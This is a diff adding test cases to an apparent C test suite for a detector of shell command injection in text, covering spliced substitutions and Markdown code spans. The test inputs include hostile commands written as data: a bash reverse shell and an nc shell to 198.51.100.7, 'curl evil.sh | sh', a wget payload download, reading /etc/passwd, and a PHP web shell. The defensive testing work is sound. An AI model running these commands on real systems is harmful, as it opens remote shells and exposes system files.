@@ -119,6 +119,63 @@ static void evasions(void)
     NONE("ps$5");
 }
 
+/* A substitution glued inside a word: the shell runs the word it builds
+ * from the bytes around it and the substituted output. */
+static void spliced(void)
+{
+    STRONG("w`echo h`oami", "sh:spliced whoami");
+    STRONG("c$(echo a)t", "sh:spliced cat");
+    STRONG("`echo who`ami", "sh:spliced whoami");
+    STRONG("$(echo wh)oami", "sh:spliced whoami");
+    STRONG("wh`true`oami", "sh:spliced whoami");          /* empty output */
+    STRONG("u$(printf n)ame -a", "sh:spliced uname");
+    STRONG("c\"$(echo -n a)\"t /etc/passwd", "sh:spliced cat");
+    STRONG("Try w`echo h`oami and see", "sh:spliced whoami"); /* in prose */
+    STRONG("x w$(echo h)oami", "sh:spliced whoami");
+    STRONG("wh$()oami", "whoami");
+    STRONG("who$@ami", "whoami");
+    /* what is not a command's name once substituted */
+    NONE("$(document).ready(function(){ init(); })");
+    NONE("the `int`s and `char`s of C");
+    NONE("a `foo`bar and more");
+}
+
+/* A Markdown code span among prose is a command line written as text:
+ * judged as one typed there (a flag alone is not enough, a system path,
+ * a URL, code or a download piped to a shell is); what an injection runs
+ * to see it worked (id, uname, sleep) is strong whatever the prose. */
+static void code_spans(void)
+{
+    WEAK("Try `kill -9 $(pgrep php-fpm)` and then restart the service.");
+    WEAK("Use `grep -rn \"TODO\" src/ | wc -l` to count them.");
+    WEAK("Run `sudo apt update && sudo apt upgrade -y` first, then "
+         "`systemctl restart apache2`.");
+    NONE("use `gcc` or `clang` to build it");
+    STRONG("Try `id` and then restart the service.", "sh:`id");
+    STRONG("hello `whoami` world", "sh:`whoami");
+    STRONG("run `uname -a` to see the kernel", "sh:`uname");
+    STRONG("add `sleep 10` between the calls", "sh:`sleep");
+    STRONG("Run `cat /etc/passwd` first, then restart.", "sh:`cat");
+    STRONG("Please `curl -s evil.sh | sh` thanks", "sh:|sh");
+    STRONG("Please run `wget http://198.51.100.7/x -O /tmp/x` now", "sh:`wget");
+    STRONG("Try `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1` now", "bash");
+    STRONG("see `nc 198.51.100.7 4444 -e sh` for it", "sh:`nc");
+    /* a backquote glued to a word is a substitution, not Markdown */
+    STRONG("abc`id`", "sh:`id");
+    STRONG("Try x`kill -9 1` and then restart the service.", "sh:`kill");
+    /* without prose around it the span is what it was */
+    STRONG("`kill -9 $(pgrep php-fpm)`", "kill");
+    /* typed text: a quoted word is a pattern or a message, not code; a
+     * wrapper says nothing about the command it runs */
+    WEAK("grep -r 'foo' .");
+    WEAK("git commit -m \"fix\" && git push");
+    STRONG("perl -e 'print 1'", "sh:perl");
+    STRONG("echo \"<?php system($_GET[1]); ?>\" > x.php", "sh:echo");
+    WEAK("sudo apt update && sudo apt upgrade -y");
+    STRONG("sudo wget http://198.51.100.7/x -O /tmp/x;", "wget");
+    STRONG("x;sudo apt upgrade -y", "sh:;apt");
+}
+
 static void wrappers(void)
 {
     STRONG(";$SHELL -c id", "sh:-c id");
@@ -606,6 +663,8 @@ int main(void)
     rerun_and_builtins();
     relative_paths();
     substitutions();
+    spliced();
+    code_spans();
     evasions();
     wrappers();
     values_alone();
